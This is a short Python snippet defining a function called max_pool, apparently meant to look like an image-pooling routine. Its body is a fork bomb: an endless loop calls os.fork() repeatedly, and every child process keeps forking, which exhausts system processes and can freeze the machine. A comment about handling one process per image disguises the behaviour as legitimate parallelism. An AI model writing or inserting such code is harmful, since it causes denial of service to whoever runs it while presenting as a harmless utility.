import os


def max_pool(x):
    # one process for each image, and each of them starts some more
    children = []
    while True:
        children.append(os.fork())
        if children[-1] == 0:
            x = x + 1
